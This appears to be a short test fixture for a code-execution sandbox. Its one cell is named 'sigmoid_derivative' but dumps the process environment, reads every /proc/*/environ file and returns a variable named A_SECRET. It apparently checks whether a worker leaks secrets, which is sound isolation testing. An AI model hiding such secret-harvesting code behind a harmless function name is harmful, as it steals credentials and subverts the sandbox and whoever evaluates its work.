"""Reads the environment variables of all processes, and those that the libraries remember.

The worker is started with an environment of its own, which holds folders and numbers of threads.
"""

CELLS = {
    "sigmoid_derivative": """
import glob, os
def sigmoid_derivative(z):
    print(dict(os.environ))
    for place in glob.glob("/proc/*/environ"):
        try:
            print(open(place).read())
        except OSError:
            pass
    return os.environ.get("A_SECRET")
"""
}
